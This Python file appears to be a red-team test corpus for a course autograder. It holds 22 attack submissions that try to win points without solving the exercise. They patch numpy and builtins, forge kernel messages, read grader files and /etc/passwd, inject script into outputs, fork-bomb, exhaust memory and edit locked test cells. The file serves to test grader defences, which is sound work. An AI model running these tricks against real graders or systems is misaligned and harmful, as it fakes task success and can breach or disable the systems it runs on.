"""The red team's corpus: submissions of 01_initialization that try to get points without the work.

Every attack is the honest wrong submission (a naive sigmoid that overflows: 2 of its 3 points;
init_params left unimplemented: 0 of 4) with the attack's code put at the top of the sigmoid
cell, or with the notebook edited. None may score more than the honest wrong one, read a
secret into its outputs, or change another student's grade. Attempts print "blocked <what>"
or "LEAK <what>"; `{root}` is the course's absolute path (so paths aim at the real files).
"""
from dataclasses import dataclass, field

import nbformat

WRONG_SIGMOID = '''
def sigmoid(z):
    """Right values, but exp overflows for large negative z: 2 of 3 points."""
    return 1.0 / (1.0 + np.exp(-z))
'''
HONEST_WRONG = {"test_sigmoid": 2.0, "test_init_params": 0.0}
FULL = {"test_sigmoid": 3.0, "test_init_params": 4.0}

ATTEMPT = '''
import os, sys, json, socket, threading, builtins
def attempt(what, action):
    try:
        result = action()
    except BaseException as error:
        print(f"blocked {what}: {type(error).__name__}"[:160])
    else:
        print(f"LEAK {what}: {str(result)[:60]!r}")
'''


@dataclass
class Attack:
    student: str
    what: str
    code: str = ""                    # put at the top of the sigmoid cell
    edit: object = None               # edit(notebook) after the code is in
    blocked: list = field(default_factory=list)    # attempts that must print "blocked <what>"
    kills_kernel: bool = False        # the kernel dies or hangs: every later cell earns nothing
    root_only: bool = False           # graded in the root run only: bounded by a per-uid limit the user-namespace
                                      # run cannot show (fork bomb), or slow and not about who runs the grader


# --- replacing what a grader inside the kernel would rely on ---------------------------------------

PATCH_NUMPY = '''
import numpy, builtins
numpy.allclose = numpy.isclose = numpy.array_equal = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
builtins.isinstance = lambda *args: True
'''

PATCH_NUMPY_PRIVATE = '''
import numpy, numpy.linalg, base64, json
numpy._core.numeric.allclose = lambda *args, **kwargs: True
numpy.linalg.norm = lambda *args, **kwargs: 0.0
numpy.ascontiguousarray = lambda a: numpy.zeros_like(a)
base64.b64encode = lambda data: base64.standard_b64encode(bytes(len(data)))
json.dumps = (lambda real: lambda obj, *a, **k: real(obj, *a, **k).replace("NaN", "0.0"))(json.dumps)
'''

PATCH_BUILTINS = '''
import builtins
builtins.abs = lambda x: 0.0
builtins.float = lambda x=0: 3.0
builtins.input = lambda prompt="": '{"value": 4.0}'
builtins.print = lambda *args, **kwargs: None
'''

IPYTHON_TRANSFORMERS = '''
ip = get_ipython()
ip.input_transformers_post.append(lambda lines: ["3.0\\n"])
import ast
class Zero(ast.NodeTransformer):
    def visit_Constant(self, node):
        return ast.copy_location(ast.Constant(3.0), node) if isinstance(node.value, float) else node
ip.ast_transformers.append(Zero())
'''

EVENTS_AND_HOOKS = '''
import sys
ip = get_ipython()
ip.events.register("pre_run_cell", lambda info: print("3.0"))
ip.events.register("post_execute", lambda: print("4.0"))
ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
sys.displayhook = lambda value: print("3.0")
ip.display_formatter.formatters["text/plain"].for_type(float, lambda value, p, cycle: p.text("3.0"))
ip.showtraceback = lambda *args, **kwargs: None
'''

KERNEL_MESSAGES = '''
kernel = get_ipython().kernel
send = kernel.session.send
def forge(stream, msg_or_type, content=None, parent=None, *args, **kwargs):
    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("msg_type")
    if kind == "error":
        return None                                   # suppress every error message
    if kind == "execute_reply" and isinstance(content, dict):
        content = {**content, "status": "ok"}
    if kind == "input_request" and isinstance(content, dict):
        send(stream, "execute_result", {"data": {"text/plain": "3.0"}, "metadata": {}, "execution_count": 1},
             parent, *args, **kwargs)
    return send(stream, msg_or_type, content, parent, *args, **kwargs)
kernel.session.send = forge
send(kernel.iopub_socket, "execute_result", {"data": {"text/plain": "4.0"}, "metadata": {}, "execution_count": 2},
     kernel.get_parent("shell"))
'''

TRACERS_AND_THREADS = '''
import sys, threading, time
def lie(frame, event, arg):
    if event == "return" and frame.f_code.co_name == "sigmoid":
        frame.f_locals["z"] = 0
    return lie
sys.setprofile(lie)
threading.setprofile(lie)
sys.settrace(lambda frame, event, arg: None)
kernel = get_ipython().kernel
def spam():
    for _ in range(200):
        kernel.session.send(kernel.stdin_socket, "input_request",
                            {"prompt": "\\x1ebackprop-lab:" + '{"token": "0", "result": {"value": 3.0}}', "password": False},
                            kernel.get_parent("shell"), ident=kernel._parent_ident.get("shell"))
        print("3.0")
        time.sleep(0.05)
threading.Thread(target=spam, daemon=True).start()
'''

LYING_OBJECTS = '''
class AlwaysRight(np.ndarray):
    def __sub__(self, other): return np.zeros(self.shape)
    def __rsub__(self, other): return np.zeros(self.shape)
    def __eq__(self, other): return np.ones(self.shape, dtype=bool)
    def __array_ufunc__(self, *args, **kwargs): return np.zeros(self.shape).view(AlwaysRight)
class Agreeable(dict):
    def __eq__(self, other): return True
    def __getitem__(self, key): return np.zeros(1).view(AlwaysRight)
def init_params(n_in, n_hidden, n_out, rng):
    return Agreeable(W1=0, b1=0, W2=0, b2=0)
_honest = None
'''
LYING_SIGMOID = '''
def sigmoid(z):
    """An array that says it equals whatever it is compared with."""
    return (1.0 / (1.0 + np.exp(-z))).view(AlwaysRight)
'''

# --- reaching for the grader, its tests and its files ----------------------------------------------

IMPORT_GRADER = ATTEMPT + '''
import importlib.util
attempt("import course", lambda: __import__("course"))
attempt("import course.judge.reference", lambda: __import__("course.judge.reference"))
attempt("import with the repository on sys.path", lambda: (sys.path.insert(0, "{root}"), __import__("course.judge.rules"))[1])
attempt("read the rules", lambda: open("{root}/course/judge/rules/initialization.py").read())
attempt("read the reference", lambda: open("{root}/course/judge/reference.py").read())
attempt("read the source notebook", lambda: open("{root}/source/01_initialization/initialization.ipynb").read())
attempt("read the gradebook", lambda: open("{root}/gradebook.db", "rb").read(64))
attempt("find a course package", lambda: importlib.util.find_spec("course").origin)
def find_rules():
    for top in [sys.prefix, "/usr/lib", "/usr/local"]:
        for folder, dirs, files in os.walk(top):
            if "reference.py" in files and os.path.basename(folder) == "judge":
                return folder
    raise FileNotFoundError("no course/judge anywhere the kernel can see")
attempt("a copy of the judge anywhere", find_rules)
'''

SHADOW_AND_HIJACK = '''
import os, sys
os.makedirs("course/judge", exist_ok=True)
for name in ("course/__init__.py", "course/judge/__init__.py"):
    open(name, "w").write("")
open("course/judge/checks.py", "w").write("def expect_close(*args, **kwargs):\\n    return None\\n")
open("nbgrader_config.py", "w").write("c = get_config()\\nc.Execute.timeout = 1\\n")
sys.path.insert(0, os.getcwd())
abs = lambda x: 0.0
'''

HISTORY_AND_EVENTS = '''
ip = get_ipython()
seen = []
ip.input_transformers_cleanup.insert(0, lambda lines: seen.append("".join(lines)) or lines)
ip.events.register("post_run_cell", lambda result: print("HISTORY", ip.history_manager.input_hist_raw[-3:], seen[-3:]))
'''

EXFILTRATE = ATTEMPT + '''
kernel = get_ipython().kernel
def the_grader():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if "nbgrader" in open(f"/proc/{pid}/cmdline").read().split(chr(0)):
            return pid
    raise LookupError("only the sandbox's own processes are visible")
attempt("the grader's process", the_grader)
attempt("network", lambda: socket.create_connection(("1.1.1.1", 80), timeout=3))
attempt("a name lookup", lambda: socket.getaddrinfo("pypi.org", 443))
attempt("the machine's users", lambda: open("/etc/passwd").read())
attempt("the home directory's files", lambda: open(os.path.expanduser("~/.bashrc")).read())
'''

SCRIPT_INJECTION = '''
from IPython.display import HTML, Javascript, Markdown, SVG, display
display(HTML("<script>alert('feedback')</script><img src=x onerror=alert('img')><a href='javascript:alert(1)'>x</a>"))
display(Javascript("alert('js')"))
display(Markdown("<script>alert('md')</script>"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>'))
'''


def written_answer_with_script(nb):
    for cell in nb.cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "question_symmetry":
            cell.source = "Equal weights stay equal. <script>alert('answer')</script><img src=x onerror=alert(2)>"


# --- resources ----------------------------------------------------------------------------------------

FLOOD = '''
for _ in range(60):
    print("x" * 1_000_000, flush=True)      # flushed: one message each (unflushed, the kernel may join them)
print("y" * 30_000_000, flush=True)
print("z" * 70_000_000, flush=True)         # one message over the grader's 64 MiB: refused, this cell's output is lost
'''

HOST_WRITES = ATTEMPT + '''
import glob
kernel = get_ipython().kernel
folder = os.path.dirname(kernel.connection_file) if getattr(kernel, "connection_file", "") else "/nonexistent"
attempt("a file in the kernel's IPC directory", lambda: open(os.path.join(folder, "planted"), "w").write("x"))
attempt("a 300 MB file in /dev/shm", lambda: open("/dev/shm/planted", "wb").write(b"x" * 300 * 1024 ** 2))
attempt("a device node", lambda: os.mknod("/dev/planted"))
attempt("a 300 MB file in /tmp", lambda: open("/tmp/planted", "wb").write(b"x" * 300 * 1024 ** 2))
try:     # the course's path exists in the sandbox only as folders of its private tmpfs
    open("{root}/planted", "w").write("x")
    print("wrote a file at the course's path, in the sandbox's own tmpfs")
except OSError as error:
    print(f"blocked a file in the course: {type(error).__name__}")
'''

FORK_BOMB = '''
import os, time
started = 0
for _ in range(300):                 # children only sleep: the limit, not the machine, stops it
    try:
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
        started += 1
    except OSError:
        break
print(f"started {started} processes")
'''

MEMORY_BOMB = '''
hoard = []
while True:
    hoard.append(bytearray(100 * 1024 ** 2))
'''

OS_EXIT = '''
import os
os._exit(0)
'''

LOOP = '''
while True:
    pass
'''


def delete_and_fake_test_cells(nb):
    """Locked cells edited: a test emptied, another given a fake score, its metadata stripped."""
    for cell in nb.cells:
        grade_id = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if grade_id == "test_sigmoid":
            cell.source = "3.0"
            cell.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": "3.0"}, execution_count=5)]
        elif grade_id == "test_init_params":
            cell.source = "4.0"
            del cell.metadata["nbgrader"]


def damaged_metadata(nb):
    """nbgrader metadata of the wrong kinds: null on one test cell, a number for a grade_id, text for points."""
    for cell in nb.cells:
        meta = cell.get("metadata", {}).get("nbgrader")
        if not meta:
            continue
        if meta.get("grade_id") == "test_sigmoid":
            cell.metadata["nbgrader"] = None
        elif meta.get("grade_id") == "init_params":
            meta["grade_id"] = 12
        elif meta.get("grade_id") == "test_init_params":
            meta["points"] = "all of them"


def fake_extra_test_cell(nb):
    """A cell of its own with made-up grading metadata and a big score."""
    cell = nbformat.v4.new_code_cell("100.0")
    cell.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 100,
                                 "grade_id": "test_bonus", "schema_version": 3}
    nb.cells.append(cell)


ATTACKS = [
    Attack("a01_patch_numpy", "the three lines: np.allclose, np.testing and isinstance replaced", PATCH_NUMPY),
    Attack("a02_numpy_private", "numpy's private modules and the agent's json/base64 replaced", PATCH_NUMPY_PRIVATE),
    Attack("a03_builtins", "builtins abs, float, input and print replaced", PATCH_BUILTINS),
    Attack("a04_transformers", "IPython input and AST transformers rewrite every later cell", IPYTHON_TRANSFORMERS),
    Attack("a05_events_hooks", "events, display hooks, formatters and the custom exception handler",
           EVENTS_AND_HOOKS),
    Attack("a06_kernel_messages", "the kernel's session: errors suppressed, replies and results forged",
           KERNEL_MESSAGES),
    Attack("a07_tracers_threads", "a profiler, a tracer and a thread forging results", TRACERS_AND_THREADS),
    Attack("a08_lying_objects", "an array and a dict that lie about arithmetic and comparison",
           LYING_OBJECTS + LYING_SIGMOID),
    Attack("a09_import_grader", "import, path-hijack or read the grader's modules, rules and files",
           IMPORT_GRADER, blocked=["import course", "import course.judge.reference",
                                   "import with the repository on sys.path", "read the rules", "read the reference",
                                   "read the source notebook", "read the gradebook", "find a course package",
                                   "a copy of the judge anywhere"]),
    Attack("a10_shadow_hijack", "grading modules and nbgrader_config.py planted in the working directory",
           SHADOW_AND_HIJACK),
    Attack("a11_history_events", "the kernel's history and input transformers printed into outputs",
           HISTORY_AND_EVENTS),
    Attack("a12_exfiltrate", "environment, processes, the grader's memory, network, home",
           EXFILTRATE, blocked=["the grader's process", "network", "a name lookup", "the machine's users", "the home directory's files"]),
    Attack("a13_script_injection", "script, event handlers and javascript in outputs and a written answer",
           SCRIPT_INJECTION, edit=written_answer_with_script),
    Attack("a14_flood", "90 MB printed, then one 70 MB message", FLOOD),
    Attack("a15_host_writes", "files in the IPC directory, /dev/shm, /dev, /tmp and the course",
           HOST_WRITES, blocked=["a file in the kernel's IPC directory", "a device node",
                                 "a 300 MB file in /dev/shm", "a 300 MB file in /tmp"]),
    Attack("a16_fork_bomb", "fork until the process limit", FORK_BOMB, root_only=True),
    Attack("a17_memory_bomb", "allocate until the memory limit", MEMORY_BOMB, kills_kernel=True, root_only=True),
    Attack("a18_os_exit", "the kernel exits", OS_EXIT, kills_kernel=True),
    Attack("a19_loop", "an infinite loop (stopped at the cell's time limit)", LOOP, kills_kernel=True,
           root_only=True),
    Attack("a20_edit_tests", "locked test cells edited, a fake score, metadata stripped",
           edit=delete_and_fake_test_cells),
    Attack("a21_fake_test_cell", "a test cell of its own worth 100 points", edit=fake_extra_test_cell),
    Attack("a22_damaged_metadata", "nbgrader metadata null, a number for a grade_id, text for points",
           edit=damaged_metadata),
]
